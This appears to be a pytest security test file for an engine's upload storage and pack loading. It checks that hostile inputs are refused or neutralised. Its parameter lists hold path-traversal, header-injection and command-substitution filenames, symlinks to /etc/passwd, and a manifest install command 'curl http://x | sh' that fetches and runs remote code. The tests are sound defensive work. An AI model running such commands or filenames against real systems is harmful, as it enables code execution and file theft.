"""A8 Files and packs: what is uploaded lies under a name of ours, a pack's folder is read as data,
and of what is refused nothing is left."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
import sqlalchemy as sa
from tests.security.test_a6_expressions import sources
from tests.security.world import World

from engine.packs import check_sources, load_company
from engine.problems import Severity
from engine.records.failures import Busy, Failure, Invalid
from engine.records.files import open_file, store_upload
from engine.records.publish import WHATEVER, publish
from engine.tables import system

FILES: Final = (
    "合同.pdf", "a" * 300 + ".pdf", ".pdf", "..pdf", "CON.pdf", "con", "NUL.txt",
    "x\u202efdp.exe.pdf",
    "../../etc/passwd.pdf", "..\\..\\x.pdf", "/abs/x.pdf", "C:\\x.pdf", "x.pdf:stream.pdf",
    "a/b/../../c.pdf", "\x00.pdf", "a\x00b.pdf", "\ud800.pdf", "a\r\nSet-Cookie: x=y.pdf", " .pdf",
    'a";filename="b.pdf', "a;b=c.pdf", "%2e%2e%2fx.pdf", "~root.pdf", "-rf.pdf", "a\tb.pdf",
    "e\u0301.pdf", "\u200b.pdf", "x.pdf.", "x .pdf ", "<b>.pdf", "$(id).pdf", "`id`.pdf",
)  # fmt: skip
PDF: Final = b"%PDF-1.7 content"


@pytest.fixture
def folder(world: World) -> Path:
    """Where a company's files lie."""
    found = world.served.company("t1").files
    assert found is not None
    return found


def lying(folder: Path) -> set[str]:
    """Everything in the folder, by path."""
    return {str(one.relative_to(folder)) for one in folder.rglob("*") if one.is_file()}


@pytest.mark.parametrize("name", FILES, ids=range(len(FILES)))
def test_a8_2_a_file_lies_under_a_name_of_ours(world: World, folder: Path, name: str) -> None:
    """Whatever it is called, its place is made of its content, and it comes back by its number."""
    before, outside = lying(folder), lying(folder.parent)
    actor = world.served.actor("t1", "alice")
    company = world.served.company("t1")
    content = PDF + name.encode("utf-8", "replace")
    try:
        with company.unit(actor, write=True) as unit:
            id = store_upload(unit, name, io.BytesIO(content))
    except Invalid:
        assert lying(folder) == before
        return
    [new] = lying(folder) - before
    assert set(new) <= set("0123456789abcdef/")
    assert len(lying(folder.parent) - outside) == 1
    with company.unit(actor) as unit:
        found, path = open_file(unit, id)
    assert path.read_bytes() == content
    assert path.stat().st_mode & 0o177 == 0
    assert 1 <= len(found.name) <= 200
    assert found.name.isprintable()
    assert not set("/\\:\x00\r\n\u202e\u200b") & set(found.name)
    answer = world.served.visitor("t1", "alice").get(f"/e/@file/{id}")
    said = answer.headers["Content-Disposition"]
    assert said.startswith("attachment;")
    assert said.isprintable()
    assert "Set-Cookie" not in answer.headers
    assert said.count("filename=") + said.count("filename*=") <= 2


class Endless:
    """A stream without an end, that counts what was taken of it."""

    taken = 0

    def read(self, size: int = -1, /) -> bytes:
        """Some more."""
        self.taken += size
        return b"%PDF" + b"x" * (size - 4)


def test_a8_3_no_more_is_written_than_the_limit(world: World, folder: Path) -> None:
    before, stream = lying(folder), Endless()
    actor = world.served.actor("t1", "alice")
    with world.served.company("t1").unit(actor, write=True) as unit, pytest.raises(Invalid) as told:
        store_upload(unit, "x.pdf", stream, largest=1 << 20)
    assert told.value.code == "R301"
    assert stream.taken < 2 << 20
    assert lying(folder) == before


@pytest.mark.parametrize("where", ["write", "fsync", "replace"])
def test_a8_3_a_full_disk_leaves_nothing_behind(
    world: World, folder: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    def full(*_: Any, **__: Any) -> None:
        raise OSError(28, "No space left on device")

    before = lying(folder)
    target = {"write": "engine.records.files._copy", "fsync": "os.fsync",
              "replace": "pathlib.Path.replace"}[where]  # fmt: skip
    actor, company = world.served.actor("t1", "alice"), world.served.company("t1")
    with monkeypatch.context() as patch:
        patch.setattr(target, full)
        with pytest.raises(Busy), company.unit(actor, write=True) as unit:
            store_upload(unit, "x.pdf", io.BytesIO(PDF))
    assert lying(folder) == before
    with company.database.read() as connection:
        count = sa.select(sa.func.count()).select_from(system.FILE)
        assert connection.scalar(count.where(system.FILE.c.name == "x.pdf")) == 0


def test_a8_3_what_is_refused_with_its_record_is_nobodys(world: World) -> None:
    """A file that came with a form that was refused belongs to no record, and to no other."""
    admin, alice = (world.served.visitor("t1", one) for one in ("admin", "alice"))
    form = {"f_name": "", "f_level": "a", "f_papers-upload": (io.BytesIO(PDF), "mine.pdf")}
    answer = admin.send("POST", "/e/customer/new", data=form, content_type="multipart/form-data")
    assert answer.status_code == 422
    with world.served.company("t1").database.read() as connection:
        rows = sa.select(system.FILE).where(system.FILE.c.name == "mine.pdf")
        for row in connection.execute(rows):
            assert row.record_id is None
            assert alice.get(f"/e/@file/{row.id}").status_code == 404


# --- packs ---------------------------------------------------------------------------------------
def write(root: Path, files: dict[str, Any]) -> None:
    """Definition files."""
    for at, one in files.items():
        (root / at).parent.mkdir(parents=True, exist_ok=True)
        (root / at).write_text(one if isinstance(one, str) else json.dumps(one), "utf-8")


STRANGE: Final[dict[str, Callable[[Path], object]]] = {
    "a link to a file outside": lambda root: os.symlink(
        "/etc/passwd", root / "entity_defs/p/passwd.json"
    ),
    "a link to a folder outside": lambda root: os.symlink("/etc", root / "entity_defs/q"),
    "a pipe": lambda root: os.mkfifo(root / "entity_defs/p/pipe.json"),
    "a folder called a file": lambda root: (root / "entity_defs/p/dir.json").mkdir(),
    "a link to itself": lambda root: os.symlink("loop.json", root / "entity_defs/p/loop.json"),
    "a file that is too large": lambda root: (root / "entity_defs/p/big.json").write_bytes(
        b" " * 1_000_001
    ),
    "bytes": lambda root: (root / "entity_defs/p/bytes.json").write_bytes(b"\xff\xfe{}"),
    "an archive": lambda root: (root / "entity_defs/p/zip.json").write_bytes(b"PK\x03\x04"),
    "a name in capitals": lambda root: (root / "entity_defs/p/Thing.json").write_text("{}"),
    "a name with a blank": lambda root: (root / "entity_defs/p/a b.json").write_text("{}"),
}


@pytest.mark.parametrize("what", STRANGE)
def test_a8_1_a_folder_is_read_as_files_of_its_own(tmp_path: Path, what: str) -> None:
    """Nothing outside is read, nothing is waited for; what is strange is told."""
    write(tmp_path, sources())
    STRANGE[what](tmp_path)
    model, found, problems = load_company([tmp_path], "p")
    assert not [text for text in found.values() if "root:" in text]
    errors = [one for one in problems if one.severity is Severity.ERROR]
    if what == "a link to a folder outside":  # another pack, which nobody asked for
        assert model is not None
        return
    assert errors
    assert all("root:" not in repr(one.params) for one in problems)


MANIFESTS: Final[dict[str, dict[str, Any]]] = {
    "a folder elsewhere": {"dir": "../entity_defs"},
    "a base elsewhere": {"builds_on": ["../../etc"]},
    "a base by its path": {"builds_on": ["/etc"]},
    "a command": {"install": "curl http://x | sh"},
    "a secret": {"secret": "x"},
    "people": {"users": {"eve": {"roles": ["admin"]}}},
    "another name": {"name": "../q"},
    "the platform's own table": {"menus": {"m": {"title": "M", "items": {"u": {
        "entity": "dg_user", "order": 1}}}}},
    "a role called like the platform": {"roles": {"@system": {"title": "S", "admin": True}}},
    "an operator": {"roles": {"clerk": {"title": "C", "operator": True}}},
    "a channel": {"channels": {"x": {"url": "http://127.0.0.1/"}}},
}  # fmt: skip


@pytest.mark.parametrize("what", MANIFESTS)
def test_a8_7_a_pack_says_what_packs_may_say(tmp_path: Path, what: str) -> None:
    files = sources()
    files["entity_defs/p/pack.json"].update(MANIFESTS[what])
    write(tmp_path, files)
    model, _, problems = load_company([tmp_path], "p")
    assert model is None or [one for one in problems if one.severity is Severity.ERROR]
    assert any(one.pointer or one.file for one in problems)


@pytest.mark.parametrize("name", ["user", "pack", "@user", "sqlite_master", "session", "id"])
def test_a8_7_no_entity_takes_the_place_of_a_table_of_the_platform(world: World, name: str) -> None:
    """It is refused, or it becomes a table of its own beside the platform's."""
    company = world.served.company("t1")
    people = sa.select(system.USER.c.id, system.USER.c.login, system.USER.c.password_hash)
    with company.database.read() as connection:
        before = connection.execute(people).all()
    whole = dict(company.current.sources)
    whole[f"entity_defs/w1/{name}.json"] = json.dumps(
        {"x-entity": {"name": name}, "title": "T", "type": "object",
         "properties": {"login": {"type": "string", "title": "L"}},
         "x-access": {"sales": {"read": True, "write": True, "create": True}}}
    )  # fmt: skip
    try:
        publish(company, whole, "w1", check=check_sources, acknowledged=WHATEVER)
    except Failure:
        assert name not in company.current.model.entities
    else:
        table = company.current.tables.of(name).table
        assert table.name not in system.METADATA.tables
        assert world.served.visitor("t1", "alice").get(f"/api/v1/{name}").json["items"] == []
    with company.database.read() as connection:
        assert connection.execute(people).all() == before


def test_a8_6_every_mistake_of_a_pack_is_told_at_once(tmp_path: Path) -> None:
    files = sources()
    files["entity_defs/p/thing.json"]["properties"]["a"] = {"type": "strin", "title": "A"}
    files["entity_defs/p/thing.json"]["properties"]["b"] = {"$ref": "http://x/y.json"}
    files["workflows/p/life.json"]["states"]["a"]["on"]["go"]["target"] = "nowhere"
    files["entity_defs/p/pack.json"]["menus"] = {"m": {"title": "M", "items": {"u": {
        "entity": "nothing", "order": 1}}}}  # fmt: skip
    write(tmp_path, files)
    model, _, problems = load_company([tmp_path], "p")
    assert model is None
    assert len({one.file for one in problems if one.severity is Severity.ERROR}) >= 2
    assert all(one.file for one in problems)


def test_a8_8_what_a_company_runs_is_what_was_published(world: World) -> None:
    """The sources that are kept make the same company again."""
    company = world.served.company("t1")
    model, _ = check_sources(company.current.sources, "w1")
    assert model is not None
    assert model.hash == company.current.model.hash
